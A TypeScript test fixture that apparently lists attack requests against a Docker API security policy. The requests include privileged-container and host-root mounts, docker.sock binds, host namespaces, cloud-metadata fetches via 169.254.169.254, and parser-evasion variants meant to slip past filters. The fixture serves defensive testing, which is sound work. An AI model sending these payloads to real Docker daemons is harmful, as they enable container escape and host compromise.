/**
 * The §5.3 cases of runner-security.md that the policy decides, one request
 * each, as [name, method, path, body, headers]: replayed against a real
 * dockerd through the policy (catalogue-e2e.test.ts) and through the whole
 * runner over its WebSocket (test/runner/page/catalogue-runner.test.ts).
 * The unit catalogue (catalogue.test.ts) has every variant. Requests that
 * name a container expect `ll-pol-victim` to exist and run.
 */
/** A create body with this HostConfig (and top-level fields). */
export const C = (host: object, top: object = {}) => JSON.stringify({ Image: 'alpine', Cmd: ['true'], ...top, HostConfig: host });

/** One request per §5.3 case the policy decides (the unit catalogue has every variant). */
export const ATTACKS: Array<[string, string, string, string | null, Record<string, string>?]> = [
  ['3 resize rows=1e9', 'POST', '/v1.41/containers/ll-pol-victim/resize?h=1000000000&w=80', null],
  ['7 swarm init', 'POST', '/v1.41/swarm/init', '{"ListenAddr":"0.0.0.0:2377"}'],
  ['7 plugins pull', 'POST', '/v1.41/plugins/pull?remote=evil', '[]'],
  ['7 session', 'POST', '/v1.41/session', null],
  ['7 libpod create', 'POST', '/v1.41/libpod/containers/create', '{"privileged":true}'],
  ['7 secrets create', 'POST', '/v1.41/secrets/create', '{"Name":"x","Data":"eA=="}'],
  ['8 //containers/create', 'POST', '//containers/create', C({ Privileged: true })],
  ['8 percent-encoded slash', 'POST', '/v1.41/containers%2Fcreate', C({ Privileged: true })],
  ['8 dot-dot', 'POST', '/v1.41/x/../containers/create', C({ Privileged: true })],
  ['8 downgrade v1.24', 'POST', '/v1.24/containers/create', C({})],
  ['8 V1.41 case', 'POST', '/V1.41/containers/create', C({})],
  ['8 trailing slash', 'POST', '/v1.41/containers/create/', C({})],
  ['9 method override', 'GET', '/v1.41/containers/json', null, { 'x-http-method-override': 'POST' }],
  ['12 privileged duplicate', 'POST', '/v1.41/containers/create', '{"Image":"alpine","HostConfig":{"Privileged":false,"privileged":true}}'],
  ['12 hostconfig lower case', 'POST', '/v1.41/containers/create', '{"Image":"alpine","hostconfig":{"PRIVILEGED":true}}'],
  ['12 escaped key', 'POST', '/v1.41/containers/create', '{"Image":"alpine","HostConfig":{"\\u0050rivileged":true}}'],
  ['13 root-level Binds', 'POST', '/v1.41/containers/create', '{"Image":"alpine","Privileged":true,"Binds":["/:/h"]}'],
  ['14 text/plain', 'POST', '/v1.41/containers/create', C({ Privileged: true }), { 'content-type': 'text/plain' }],
  ['15 chunked', 'POST', '/v1.41/containers/create', C({ Privileged: true }), { 'transfer-encoding': 'chunked' }],
  ['15 oversized', 'POST', '/v1.41/containers/create', `{"Image":"alpine",${' '.repeat(1 << 20)}"HostConfig":{"Privileged":true}}`],
  ['15 trailing data', 'POST', '/v1.41/containers/create', C({}) + '{"HostConfig":{"Privileged":true}}'],
  ['16 deep nesting', 'POST', '/v1.41/containers/create', '['.repeat(10000) + ']'.repeat(10000)],
  ['17 unknown field', 'POST', '/v1.41/containers/create', C({ Future: true })],
  ['18 Privileged', 'POST', '/v1.41/containers/create', C({ Privileged: true })],
  ['19 CapAdd sys_admin', 'POST', '/v1.41/containers/create', C({ CapAdd: ['sys_admin'] })],
  ['20 seccomp:unconfined', 'POST', '/v1.41/containers/create', C({ SecurityOpt: ['seccomp:unconfined'] })],
  ['20 no-new-privileges=false', 'POST', '/v1.41/containers/create', C({ SecurityOpt: ['no-new-privileges=false'] })],
  ['21 MaskedPaths []', 'POST', '/v1.41/containers/create', C({ MaskedPaths: [] })],
  ['22 Binds /:/host', 'POST', '/v1.41/containers/create', C({ Binds: ['/:/host'] })],
  ['22 docker.sock', 'POST', '/v1.41/containers/create', C({ Binds: ['/var/run/docker.sock:/var/run/docker.sock'] })],
  ['23 local volume o=bind device=/', 'POST', '/v1.41/containers/create', C({ Mounts: [{ Type: 'volume', Source: 'v', Target: '/h', VolumeOptions: { DriverConfig: { Name: 'local', Options: { type: 'none', o: 'bind', device: '/' } } } }] })],
  ['23 bind mount', 'POST', '/v1.41/containers/create', C({ Mounts: [{ Type: 'bind', Source: '/', Target: '/h' }] })],
  ['24 Devices', 'POST', '/v1.41/containers/create', C({ Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/sda', CgroupPermissions: 'rwm' }] })],
  ['24 DeviceCgroupRules', 'POST', '/v1.41/containers/create', C({ DeviceCgroupRules: ['a *:* rwm'] })],
  ['25 PidMode host', 'POST', '/v1.41/containers/create', C({ PidMode: 'host' })],
  ['25 NetworkMode host', 'POST', '/v1.41/containers/create', C({ NetworkMode: 'host' })],
  ['25 UsernsMode host', 'POST', '/v1.41/containers/create', C({ UsernsMode: 'host' })],
  ['25 CgroupnsMode host', 'POST', '/v1.41/containers/create', C({ CgroupnsMode: 'host' })],
  ['25 IpcMode host', 'POST', '/v1.41/containers/create', C({ IpcMode: 'host' })],
  ['26 Sysctls', 'POST', '/v1.41/containers/create', C({ Sysctls: { 'net.ipv4.ip_unprivileged_port_start': '0' } })],
  ['27 OomScoreAdj', 'POST', '/v1.41/containers/create', C({ OomScoreAdj: -1000 })],
  ['28 PortBindings', 'POST', '/v1.41/containers/create', C({ PortBindings: { '22/tcp': [{ HostIp: '0.0.0.0', HostPort: '22' }] } })],
  ['29 LogConfig syslog', 'POST', '/v1.41/containers/create', C({ LogConfig: { Type: 'syslog', Config: { 'syslog-address': 'udp://10.0.0.1:514' } } })],
  ['30 RestartPolicy always', 'POST', '/v1.41/containers/create', C({ RestartPolicy: { Name: 'always' } })],
  ['31 MemorySwap -1', 'POST', '/v1.41/containers/create', C({ MemorySwap: -1 })],
  ['31 Ulimits nofile', 'POST', '/v1.41/containers/create', C({ Ulimits: [{ Name: 'nofile', Soft: 1048576, Hard: 1048576 }] })],
  ['32 reserved label', 'POST', '/v1.41/containers/create', C({}, { Labels: { 'org.layerlab.session': 'other' } })],
  ['33 WorkingDir /proc/self/fd/7', 'POST', '/v1.41/containers/create', C({}, { WorkingDir: '/proc/self/fd/7' })],
  ['34 Image from 169.254.169.254', 'POST', '/v1.41/containers/create', C({}, { Image: '169.254.169.254/x' })],
  ['35 endpoint host', 'POST', '/v1.41/containers/create', JSON.stringify({ Image: 'alpine', HostConfig: {}, NetworkingConfig: { EndpointsConfig: { host: {} } } })],
  ['36 update PidsLimit 0', 'POST', '/v1.41/containers/ll-pol-victim/update', '{"PidsLimit":0,"Memory":0}'],
  ['37 exec Privileged', 'POST', '/v1.41/containers/ll-pol-victim/exec', '{"Privileged":true,"Cmd":["id"],"AttachStdout":true}'],
  ['37 exec WorkingDir /proc', 'POST', '/v1.41/containers/ll-pol-victim/exec', '{"WorkingDir":"/proc/self/fd/7","Cmd":["id"]}'],
  ['38 build networkmode=host', 'POST', '/v1.41/build?networkmode=host&t=ll-pol-evil', null, { 'content-type': 'application/x-tar', 'content-length': '0' }],
  ['38 build remote', 'POST', '/v1.41/build?remote=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data&t=ll-pol-evil', null, { 'content-type': 'application/x-tar', 'content-length': '0' }],
  ['38 build form body', 'POST', '/v1.41/build', 'networkmode=host&remote=git://x', { 'content-type': 'application/x-www-form-urlencoded' }],
  ['38 build version=2', 'POST', '/v1.41/build?version=2&t=ll-pol-evil', null, { 'content-type': 'application/x-tar', 'content-length': '0' }],
  ['42 images/create fromSrc', 'POST', '/v1.41/images/create?fromSrc=http%3A%2F%2F169.254.169.254%2F&repo=ll-pol-evil', null],
  ['43 volume o=bind', 'POST', '/v1.41/volumes/create', '{"Name":"ll-pol-evil","Driver":"local","DriverOpts":{"type":"none","o":"bind","device":"/"}}'],
  ['43 network macvlan', 'POST', '/v1.41/networks/create', '{"Name":"ll-pol-evil","Driver":"macvlan","Options":{"parent":"eth0"}}'],
  ['44 archive PUT of 1 GiB', 'PUT', '/v1.41/containers/ll-pol-victim/archive?path=%2F', null, { 'content-type': 'application/x-tar', 'content-length': String(2 ** 30) }],
];

